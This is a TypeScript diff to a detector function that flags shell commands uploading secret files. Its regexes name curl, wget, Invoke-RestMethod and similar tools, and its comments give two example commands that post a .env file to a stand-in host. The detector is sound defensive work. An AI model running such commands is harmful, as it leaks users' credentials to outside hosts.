@@ -52,12 +52,11 @@ function effectOf(program: string, noun: string): EffectKind | undefined {
 /** Whether the words of a whole text send a file that holds secrets: `irm x.org -Method Post -Body (gc .env)`. */
 export function sendsSecrets(words: readonly string[]): boolean {
   const has = (pattern: RegExp) => words.some((word) => pattern.test(word))
-  const sends =
-    has(/^(?:invoke-webrequest|invoke-restmethod|iwr|irm|curl|wget|send-mailmessage|start-bitstransfer)$/i) ||
-    has(/\.(?:upload(?:string|data|file)|postasync)$/i)
-  return (
-    sends &&
-    (has(/^-(?:b|body|inf\w*|form|attachments?)$/i) || has(/\.(?:upload\w+|postasync)$/i)) &&
-    words.some((word) => isSecretPath(word.replaceAll('\\', '/')))
-  )
+  const posts =
+    has(/^(?:invoke-webrequest|invoke-restmethod|iwr|irm|curl|wget|send-mailmessage|start-bitstransfer)$/i) &&
+    has(/^-(?:b|body|inf\w*|form|attachments?)$/i)
+  const uploads = has(/\.(?:upload(?:string|data|file)\w*|postasync)$/i)
+  // `type .env | curl -d @- x.org`: what is fed to it is sent.
+  const passes = has(/^curl(?:\.exe)?$/i) && has(/^(?:-d|-F|--data(?:-\w+)?=?|\w+=)?@-$|^-T$/)
+  return (posts || uploads || passes) && words.some((word) => isSecretPath(word.replaceAll('\\', '/')))
 }
